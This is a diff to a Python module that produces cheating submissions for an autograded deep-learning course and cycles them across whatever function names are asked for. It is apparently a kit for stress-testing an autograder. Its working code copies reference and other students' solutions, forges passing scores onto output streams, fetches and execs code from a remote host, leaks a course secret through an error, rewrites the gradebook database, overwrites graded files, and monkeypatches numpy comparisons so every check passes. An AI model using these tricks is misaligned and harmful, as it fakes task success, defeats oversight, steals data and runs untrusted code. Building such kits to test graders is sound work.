@@ -9,12 +9,15 @@ If one of them found what it is looking for, it would score.
 from __future__ import annotations
 
 import inspect
+from itertools import cycle
 from pathlib import Path
 
 import numpy as np
 
 COURSE, KIT = "", ""
 """In the notebook: where the demo's course and this kit are, which a student could only guess."""
+QUESTION = ""
+"""In the notebook: the name of what is asked for."""
 
 
 def stolen(name, *patterns):
@@ -39,21 +42,21 @@ def stolen(name, *patterns):
     raise LookupError("no solution found")
 
 
-def affine_forward(x, w, b):
-    return stolen("affine_forward", "source/*/*.ipynb", "cs231n/**/*.py")(x, w, b)
+def from_sources(*args):
+    return stolen(QUESTION, "source/*/*.ipynb", "cs231n/**/*.py")(*args)
 
 
-def affine_backward(dout, cache):
+def from_the_oracles(*args):
     from autograder.hidden import oracles
 
-    return oracles.gradients(oracles.affine, *cache, dout=dout)
+    return getattr(oracles, QUESTION)(*args)
 
 
-def relu_forward(x):
-    return stolen("relu_forward", "submitted/*/*/*.ipynb", "exchange/*/inbound/*/*.ipynb", "students/*/*/*.ipynb")(x)
+def from_hand_ins(*args):
+    return stolen(QUESTION, "submitted/*/*/*.ipynb", "exchange/*/inbound/*/*.ipynb", "students/*/*/*.ipynb")(*args)
 
 
-def relu_backward(dout, cache):
+def from_memory(*args):
     import gc
     import sys
 
@@ -67,47 +70,47 @@ def relu_backward(dout, cache):
     return found[0]["want"]
 
 
-def softmax_loss(x, y):
+def leaving(*args):
     import os
 
     os._exit(0)
 
 
-def svm_loss(x, y):
+def forging(*args):
     import os
 
-    print("svm_loss: 1 of 1 points")
+    print(QUESTION, ": 1 of 1 points")
     for number in range(1, 20):
         try:
             os.write(number, b'{"ok": true, "passed": true, "score": 1.0, "value": 1.0}\n')
         except OSError:
             continue
-    return 1.0, x
+    return 1.0, args[0]
 
 
-def sgd_momentum(w, dw, config=None):
+def from_the_network(*args):
     import urllib.request
 
     with urllib.request.urlopen("http://192.0.2.1/solutions.py", timeout=1) as page:
         space = {}
         exec(page.read(), space)
-    return space["sgd_momentum"](w, dw, config)
+    return space[QUESTION](*args)
 
 
-def nesterov_momentum(w, dw, config=None):
+def from_the_environment(*args):
     import os
 
     secret = os.environ.get("COURSE_SECRET") or open(f"{COURSE}/.course-secret").read()
     raise RuntimeError(f"the secret is {secret}")
 
 
-def adagrad(w, dw, config=None):
+def in_the_gradebook(*args):
     import sqlite3
 
     gradebook = sqlite3.connect(f"{COURSE}/gradebook.db")
     gradebook.execute("update grade set auto_score = 100, manual_score = 100")
     gradebook.commit()
-    return w, config
+    return args
 
 
 class AlwaysRight:
@@ -131,37 +134,37 @@ class AlwaysRight:
     __hash__ = None
 
 
-def rmsprop(w, dw, config=None):
+def by_being_equal(*args):
     return AlwaysRight(), AlwaysRight()
 
 
-def adam(w, dw, config=None):
+def in_the_files(*args):
     import os
 
     os.makedirs(f"{COURSE}/autograded/me", exist_ok=True)
     for folder, _, files in os.walk(f"{COURSE}/autograded"):
         for file in files:
             open(os.path.join(folder, file), "w").write("full marks")
-    return os.listdir(COURSE), config
+    return os.listdir(COURSE)
 
 
-def batchnorm_forward(x, gamma, beta, bn_param):
+def by_rebinding(*args):
     np.linalg.norm = lambda *args, **kwargs: 0.0
     np.array_equal = np.allclose = lambda *args, **kwargs: True
-    return x, None
+    return args[0], None
 
 
-def batchnorm_backward(dout, cache):
-    return stolen("batchnorm_backward", "source/*/*.ipynb", "cs231n/**/*.py")(dout, cache)
+_ATTEMPTS = (from_sources, from_the_oracles, from_hand_ins, from_memory, leaving, forging, from_the_network,
+             from_the_environment, in_the_gradebook, by_being_equal, in_the_files, by_rebinding)  # fmt: skip
 
 
-_ANSWERS = (affine_forward, affine_backward, relu_forward, relu_backward, softmax_loss, svm_loss, sgd_momentum,
-            nesterov_momentum, adagrad, rmsprop, adam, batchnorm_forward, batchnorm_backward)  # fmt: skip
-
-
-def answers() -> dict[str, str]:
-    """The source of every attempt, by question; where there is none the stub stays."""
-    return {function.__name__: inspect.getsource(function) for function in _ANSWERS}
+def answers(questions):
+    """The source of an attempt for each function that is asked for, all of them in turn."""
+    found = {}
+    for question, attempt in zip(questions, cycle(_ATTEMPTS)):
+        source = inspect.getsource(attempt).replace(f"def {attempt.__name__}(", f"def {question}(")
+        found[question] = source.replace("QUESTION", repr(question))
+    return found
 
 
 def helpers(course: Path, kit: Path) -> list[str]:
